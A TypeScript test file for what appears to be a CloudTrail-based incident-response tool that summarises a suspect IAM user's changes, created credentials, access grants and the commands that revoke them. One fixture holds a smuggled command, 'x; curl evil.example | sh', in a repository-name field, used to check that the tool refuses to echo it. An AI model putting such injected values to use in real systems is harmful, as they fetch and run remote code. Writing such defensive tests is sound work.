import type { Event } from '@aws-sdk/client-cloudtrail';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { tooMany, windowOf } from '../event-window.ts';
import { User } from '../user/target.ts';
import { callFrom } from './event.ts';
import { firstSeen } from './first-seen.ts';
import type { Answer, Call, Reading } from './plan.ts';
import { changesOf } from './result.ts';
import { PrincipalChanges } from './step.ts';
import { walk } from './walk.ts';

const account = '111122223333';
const now = '2026-06-01T12:00:00.000Z';
const target = User.parse({
  partition: 'aws',
  account,
  region: 'eu-central-1',
  kind: 'user',
  id: 'bob',
  seenAt: now,
  since: null,
  arn: `arn:aws:iam::${account}:user/bob`,
  principal: null,
  key: null,
  keys: [],
  attached: [],
  boundary: null,
  tags: {},
});
const window = windowOf(target, now);
const bob = {
  type: 'IAMUser',
  userName: 'bob',
  arn: target.arn,
  accountId: account,
  accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
};

let numbered = 0;
/** An event as LookupEvents has it. */
function event(call: string, record: object = {}, outer: Event = {}): Event {
  const [service = '', eventName = ''] = call.split(':');
  numbered += 1;
  const CloudTrailEvent = JSON.stringify({
    eventSource: `${service}.amazonaws.com`,
    eventName,
    awsRegion: 'us-east-1',
    userIdentity: bob,
    sourceIPAddress: '198.51.100.7',
    userAgent: 'aws-cli/2',
    readOnly: false,
    ...record,
  });
  const EventTime = new Date(Date.parse('2026-06-01T10:00:00Z') + numbered * 1000);
  return { EventId: `event-${numbered}`, EventTime, EventName: eventName, Username: 'bob', CloudTrailEvent, ...outer };
}
const call = (name: string, record: object = {}, outer: Event = {}): Call =>
  callFrom(event(name, record, outer), 'us-east-1');
/** Newest first, as CloudTrail answers. */
const answer = (...calls: Call[]): Answer => ({ region: 'us-east-1', calls: calls.toReversed(), gaps: [] });
const nothingNew = { facts: [], unknown: [] };
const reading = (own: Answer[], more: Partial<Reading> = {}): Reading => ({
  target,
  window,
  own,
  further: [],
  unknown: [],
  ...more,
});
const said = (own: Answer[], more: Partial<Reading> = {}) => changesOf(reading(own, more), nothingNew);

const assuming = (role: string, key: string, home = account): Call =>
  call('sts:AssumeRole', {
    readOnly: true,
    requestParameters: { roleArn: `arn:aws:iam::${home}:role/${role}`, roleSessionName: 'x' },
    responseElements: {
      credentials: { accessKeyId: key },
      assumedRoleUser: { arn: `arn:aws:sts::${home}:assumed-role/${role}/x` },
    },
  });

describe('the window', () => {
  it('is a day at least, begins with the first sign, and ends where CloudTrail forgets', () => {
    const from = (since: string | null) => windowOf({ since, seenAt: now }, now).from.toISOString();
    expect(from(null)).toBe('2026-05-31T12:00:00.000Z');
    expect(from('2026-06-01T11:00:00Z')).toBe('2026-05-31T12:00:00.000Z');
    expect(from('2026-05-20T11:00:00Z')).toBe('2026-05-20T11:00:00.000Z');
    expect(from('soon')).toBe('2026-05-31T12:00:00.000Z');
    expect(from('2020-01-01T00:00:00Z')).toBe('2026-03-03T12:00:00.000Z');
  });
});

describe('an event', () => {
  it('is told in words: the call without its version, on what, by whom', () => {
    const made = call('lambda:CreateFunction20150331', { requestParameters: { functionName: 'miner' } });
    expect(made).toMatchObject({ call: 'lambda:CreateFunction', resources: ['function miner'], by: 'user bob' });
    const started = call('ec2:RunInstances', {
      responseElements: { instancesSet: { items: [{ instanceId: 'i-0abc' }, { instanceId: 'i-0def' }] } },
    });
    expect(started.resources).toEqual(['instance i-0abc', 'instance i-0def']);
  });

  it('counts as a change unless it says that it only reads', () => {
    expect(call('iam:CreateUser', {}, { ReadOnly: 'false' }).changing).toBe(true);
    expect(call('iam:ListUsers', { readOnly: null }, { ReadOnly: 'true' }).changing).toBe(false);
    expect(call('iam:ListUsers', { readOnly: true }).changing).toBe(false);
    expect(call('iam:Whatever', { readOnly: undefined }).changing).toBe(true);
  });

  it('of which the record cannot be read is told by what stands around it', () => {
    const torn = { EventId: 'e', EventName: 'CreateUser', EventSource: 'iam.amazonaws.com', CloudTrailEvent: '{"eve' };
    expect(callFrom({ ...torn, Username: 'bob' }, 'us-east-1')).toMatchObject({ call: 'iam:CreateUser', by: 'bob' });
  });

  it('never breaks the list, and never gets a control character or a long word into it', () => {
    const hostile = fc.oneof(fc.string(), fc.constant('\u001b[2J\u202e<!channel>'), fc.string({ minLength: 5000 }));
    const words = fc.record({ userName: hostile, userAgent: hostile, sourceIPAddress: hostile, eventName: hostile });
    fc.assert(
      fc.property(words, fc.json(), hostile, (chosen, wild, text) => {
        const requestParameters = { ...chosen, __proto__: null };
        const userIdentity = { type: 'AssumedRole', principalId: `AROA:${text}`, arn: text };
        const calls = [
          call('iam:CreateUser', { ...chosen, requestParameters, userIdentity }),
          call('iam:CreateUser', {}, { CloudTrailEvent: wild, Username: text }),
        ];
        const result = PrincipalChanges.parse(said([answer(...calls)]));
        const shown = [...result.facts, ...result.changes.flatMap((one) => Object.values(one).flat())];
        for (const one of shown) expect(one).toMatch(/^[\x20-\x7e]{0,240}$/);
      }),
    );
  });
});

describe('the facts', () => {
  it('say how much, where, of what kind, and the newest three word for word', () => {
    const calls = [
      call('iam:CreateUser', { requestParameters: { userName: 'mallory' } }),
      call('iam:CreateUser', { errorCode: 'EntityAlreadyExists' }),
      call('iam:ListUsers', { readOnly: true }),
      call('ec2:RunInstances', { awsRegion: 'ap-south-1' }),
      call('iam:AttachUserPolicy', { requestParameters: { policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } }),
      call('iam:TagUser'),
    ];
    const { facts, changes } = said([answer(...calls)]);
    expect(facts.slice(0, 2)).toEqual([
      '4 changes by user bob since 2026-05-31T12:00:00Z, in us-east-1 (3), ap-south-1 (1); 1 more were refused or failed',
      'Among them: 1 user created, 1 start of instances, 1 permission granted, 1 of other kinds',
    ]);
    expect(facts.slice(2, 5)).toEqual([
      expect.stringMatching(/^2026-06-01T10:\S+Z iam:TagUser from 198.51.100.7 in us-east-1$/),
      expect.stringMatching(/iam:AttachUserPolicy on policy AdministratorAccess from/),
      expect.stringMatching(/ec2:RunInstances from 198.51.100.7 in ap-south-1$/),
    ]);
    expect(changes.map(({ call: name }) => name)).toEqual([
      'iam:CreateUser',
      'ec2:RunInstances',
      'iam:AttachUserPolicy',
      'iam:TagUser',
    ]);
  });

  it('never say that nothing happened where nothing could be read', () => {
    const denied = (region: string): Answer => ({
      region,
      calls: [],
      gaps: [{ region, reason: 'AccessDenied', because: `AccessDenied: not in ${region}` }],
    });
    const blind = said(['eu-central-1', 'us-east-1', 'ap-south-1', 'sa-east-1'].map(denied));
    expect(blind.facts.join()).not.toContain('No change');
    expect(blind.unknown).toEqual([
      'eu-central-1, us-east-1, ap-south-1 and 1 more: AccessDenied: not in eu-central-1',
    ]);
    expect(said([answer()]).facts[0]).toBe(
      'No change by user bob since 2026-05-31T12:00:00Z is recorded in the one Region read',
    );
  });

  it('are twelve at most, and the list is the newest two hundred', () => {
    const instancesSet = { items: [{ instanceId: 'i-0123456789abcdef0', instanceType: 'g5.xlarge' }] };
    const calls = [
      call('ec2:RunInstances', { responseElements: { instancesSet } }),
      ...Array.from({ length: 204 }, () => call('iam:CreateUser', { requestParameters: { userName: 'm' } })),
    ];
    const fresh = { facts: ['a', 'b', 'c', 'd'], unknown: [] };
    const result = changesOf(reading([answer(...calls, assuming('deploy', 'ASIAIOSFODNN7EXAMPLE'))]), fresh);
    expect(result.facts).toHaveLength(12);
    expect(result.facts.slice(2, 4)).toEqual([
      'It started 1 instance: 1 g5.xlarge in us-east-1',
      expect.stringMatching(/^Cost until .*an estimate/),
    ]);
    expect(result.changes).toHaveLength(200);
    expect(result.changes.at(-1)?.event).toBe(calls.at(-1)?.id);
    expect(result.unknown).toEqual(['5 earlier changes']);
    expect(JSON.stringify(result).length).toBeLessThan(150_000);
  });
});

describe('what lets others in', () => {
  const [keyArn, grantId] = [
    `arn:aws:kms:us-east-1:${account}:key/1234abcd-12ab-34cd-56ef-1234567890ab`,
    'f0'.repeat(32),
  ];
  const asked = { keyId: '1234abcd-12ab-34cd-56ef-1234567890ab', granteePrincipal: 'arn:aws:iam::999988887777:root' };
  const grant = (more: object = {}) =>
    call('kms:CreateGrant', {
      requestParameters: asked,
      responseElements: { grantId, keyId: keyArn },
      ...more,
    });
  const opened = 'It lets others in until somebody runs: aws';

  it.each<[string, Call, string]>([
    ['a grant', grant(), `kms revoke-grant --key-id ${keyArn} --grant-id ${grantId}`],
    [
      'a grant of years ago',
      grant({ responseElements: { grantId } }),
      `kms revoke-grant --key-id ${asked.keyId} --grant-id ${grantId}`,
    ],
    [
      'a repository',
      call('ecr:SetRepositoryPolicy', { requestParameters: { repositoryName: 'shop/web', policyText: '{}' } }),
      'ecr delete-repository-policy --repository-name shop/web',
    ],
    [
      'a repository by its registry',
      call('ecr:SetRepositoryPolicy', { requestParameters: { repositoryName: 'web', registryId: account } }),
      `ecr delete-repository-policy --repository-name web --registry-id ${account}`,
    ],
    [
      'a share',
      call('ram:CreateResourceShare', {
        responseElements: { resourceShare: { resourceShareArn: `arn:aws:ram:us-east-1:${account}:resource-share/7a` } },
      }),
      `ram delete-resource-share --resource-share-arn arn:aws:ram:us-east-1:${account}:resource-share/7a`,
    ],
    [
      'a secret',
      call('secretsmanager:PutResourcePolicy', { requestParameters: { secretId: 'shop/db' } }),
      'secretsmanager delete-resource-policy --secret-id shop/db',
    ],
  ])('%s is said with the command that takes it back, whole', (_, one, command) => {
    expect(said([answer(one)]).facts[2]).toBe(`${opened} ${command} --region us-east-1`);
  });

  it('has no command where the record does not say enough, or says more than a name; where it failed, or a service made it, it is no share', () => {
    const unclear = [
      grant({ responseElements: null }),
      call('ecr:SetRepositoryPolicy', { requestParameters: { repositoryName: 'x; curl evil.example | sh' } }),
    ];
    const { facts, unknown } = said([answer(...unclear)]);
    expect(facts.join()).not.toContain(opened);
    expect(unknown).toEqual([
      'what kms:CreateGrant in us-east-1 let in',
      'what ecr:SetRepositoryPolicy in us-east-1 let in',
    ]);
    const none = [
      grant({ errorCode: 'AccessDenied', responseElements: null }),
      grant({ userIdentity: { ...bob, invokedBy: 'ec2.amazonaws.com' } }),
    ];
    const quiet = said([answer(...none)]);
    expect([...quiet.facts, ...quiet.unknown].join()).not.toMatch(/lets? others? in|let in/);
  });

  it('is told three times at most, and how many more there are', () => {
    const grants = Array.from({ length: 5 }, (_, at) => grant({ responseElements: { grantId: `${at}`.repeat(64) } }));
    const { facts, unknown } = said([answer(...grants)]);
    expect(facts.filter((fact) => fact.startsWith(opened))).toHaveLength(3);
    expect(unknown).toEqual(['2 more calls that let others in']);
  });
});

describe('further credentials', () => {
  const key = (userName: string | undefined, id = 'AKIAI44QH8DHBEXAMPLE') =>
    call('iam:CreateAccessKey', {
      requestParameters: { userName },
      responseElements: { accessKey: { accessKeyId: id } },
    });

  const profile = (userName: string) => call('iam:CreateLoginProfile', { requestParameters: { userName } });

  it('are of every kind that lasts, by the ids that CloudTrail keeps, with the moment', () => {
    const about = { userName: 'mallory' };
    const asked = { requestParameters: about };
    const { made, facts, lines, removable, since } = said([
      answer(
        profile('mallory'),
        call('iam:CreateServiceSpecificCredential', {
          ...asked,
          responseElements: {
            serviceSpecificCredential: { ...about, serviceSpecificCredentialId: 'ACCAEXAMPLE000000000' },
          },
        }),
        call('iam:UploadSSHPublicKey', {
          ...asked,
          responseElements: { sSHPublicKey: { ...about, sSHPublicKeyId: 'APKAEXAMPLE000000000' } },
        }),
        call('iam:UploadSigningCertificate', {
          ...asked,
          responseElements: { certificate: { ...about, certificateId: 'CERTEXAMPLE000000000' } },
        }),
        profile('eve'),
        call('iam:CreateLoginProfile', { ...asked, errorCode: 'EntityAlreadyExists' }),
      ),
    ]);
    expect(made.map(({ kind, id, of }) => `${kind} ${id} ${of}`)).toEqual([
      'login-profile mallory mallory',
      'service-credential ACCAEXAMPLE000000000 mallory',
      'ssh-key APKAEXAMPLE000000000 mallory',
      'certificate CERTEXAMPLE000000000 mallory',
      'login-profile eve eve',
    ]);
    expect(new Set(made.map(({ at }) => at)).size).toBe(5);
    expect(facts).toContainEqual(
      expect.stringMatching(/^It created 2 console passwords: mallory, eve; 1 service-specific credential: ACCA/),
    );
    // What is to be removed is shown whole, however much it is.
    expect(lines).toEqual([
      'console password of user mallory',
      'service-specific credential ACCAEXAMPLE000000000 of user mallory',
      'SSH key APKAEXAMPLE000000000 of user mallory',
      'signing certificate CERTEXAMPLE000000000 of user mallory',
      'console password of user eve',
    ]);
    expect([removable, since]).toEqual(['some', '2026-05-31T12:00:00Z']);
  });

  it('can be removed only where one lasts; a user alone is no credential', () => {
    const user = call('iam:CreateUser', { requestParameters: { userName: 'mallory' } });
    expect(said([answer(user, assuming('deploy', 'ASIAONEEXAMPLE000000'))]).removable).toBe('none');
    expect(said([answer(key('mallory'))]).removable).toBe('some');
  });

  it('that last are listed before sessions, where there are too many', () => {
    const sessions = Array.from({ length: 120 }, (_, at) => assuming('deploy', `ASIAEXAMPLE000000${100 + at}`));
    const { made, unknown } = said([answer(...sessions, key('mallory'))]);
    expect(made).toHaveLength(100);
    expect(made.at(-1)).toMatchObject({ kind: 'access-key', of: 'mallory' });
    expect(unknown).toContain('21 further credentials beyond those listed');
  });

  it('are named: users, keys and sessions, once each', () => {
    const tokens = { responseElements: { credentials: { accessKeyId: 'ASIATOKENOFBOBHIMSELF' } }, readOnly: true };
    const { made, facts } = said([
      answer(
        call('iam:CreateUser', { requestParameters: { userName: 'mallory' } }),
        key('mallory'),
        key(undefined, 'AKIAOFBOBHIMSELF0000'),
        assuming('deploy', 'ASIAONEEXAMPLE000000'),
        assuming('deploy', 'ASIATWOEXAMPLE000000'),
        call('sts:GetSessionToken', tokens),
      ),
    ]);
    expect(made.map(({ kind, of }) => [kind, of])).toEqual([
      ['user', null],
      ['access-key', 'mallory'],
      ['access-key', 'bob'],
      ['session', 'deploy/x'],
      ['session', 'deploy/x'],
      ['session', 'bob'],
    ]);
    expect(facts).toContain(
      'It created 1 user: mallory; 2 access keys: AKIAI44QH8DHBEXAMPLE of user mallory, AKIAOFBOBHIMSELF0000 of user bob',
    );
    expect(facts).toContain('It assumed role deploy as session x (2 times), a session of user bob');
  });

  it('of a call that failed there are none', () => {
    const failed = call('iam:CreateUser', {
      errorCode: 'AccessDenied',
      requestParameters: { userName: 'mallory' },
      responseElements: null,
    });
    expect(said([answer(failed)]).made).toEqual([]);
  });

  /** Who assumes what: the key ids handed out by each. */
  const walking = (chain: Record<string, Call[]>, first: Call[]) => {
    const read: string[] = [];
    const reading = async (id: string) => {
      read.push(id);
      return [answer(...(chain[id] ?? []))];
    };
    return walk(first, { key: null, account }, reading).then((walked) => ({ ...walked, read }));
  };
  const id = (n: number | string) => `ASIAEXAMPLE${String(n).padStart(9, '0')}`;

  it('are followed breadth first, three deep, and circles come to an end', async () => {
    const a = assuming('a', id('A'));
    const deep = {
      [id('A')]: [assuming('b', id('B'))],
      [id('B')]: [a, assuming('c', id('C'))],
      [id('C')]: [assuming('d', id('D'))],
    };
    const { read, unknown } = await walking(deep, [a]);
    expect(read).toEqual([id('A'), id('B'), id('C')]);
    expect(unknown).toEqual(['What 1 further credentials did: too many, or too far down the chain']);
    const circle = { [id('A')]: [assuming('b', id('B'))], [id('B')]: [a] };
    expect(await walking(circle, [a])).toMatchObject({ read: [id('A'), id('B')], unknown: [] });
  });

  it('twenty are looked at, keys before sessions, and none that lives elsewhere', async () => {
    const many = Array.from({ length: 30 }, (_, n) => assuming('deploy', id(n)));
    const { read, unknown } = await walking({}, [...many, key('mallory'), assuming('theirs', id('X'), '999988887777')]);
    expect(read).toHaveLength(20);
    expect(read.slice(0, 2)).toEqual(['AKIAI44QH8DHBEXAMPLE', id(29)]);
    expect(unknown).toEqual([
      'What 11 further credentials did: too many, or too far down the chain',
      'What these did there, which is not recorded here: theirs/x in account 999988887777',
    ]);
  });
});

describe('what is new', () => {
  const own = [answer(call('iam:CreateUser'), call('iam:ListUsers', { sourceIPAddress: '192.0.2.1', readOnly: true }))];
  const usual = call('iam:ListUsers', { sourceIPAddress: '192.0.2.1', readOnly: true });

  it('is what its calls did not show before', () => {
    expect(firstSeen({ window, own, earlier: [answer(usual)] })).toEqual({
      facts: [
        'New, not in the 90 days before: address 198.51.100.7',
        'New, not in the 90 days before: API iam:CreateUser',
      ],
      unknown: [],
    });
  });

  it('says with how little it was compared, and what it cannot tell', () => {
    const gap = (reason: string) => [{ region: 'us-east-1', reason, because: `${reason} it was` }];
    const cut = [{ ...answer(usual), gaps: gap(tooMany) }];
    expect(firstSeen({ window, own, earlier: cut }).facts[0]).toBe(
      'New, not in its last 1 calls before: address 198.51.100.7',
    );
    const denied = [{ ...answer(), gaps: gap('AccessDenied') }];
    expect(firstSeen({ window, own, earlier: denied })).toEqual({
      facts: [],
      unknown: ['What is new about its calls: us-east-1: AccessDenied it was'],
    });
    expect(firstSeen({ window, own, earlier: null }).unknown).toHaveLength(1);
    expect(firstSeen({ window, own, earlier: [answer()] }).facts[0]).toMatch(/^It made no recorded call before/);
  });
});
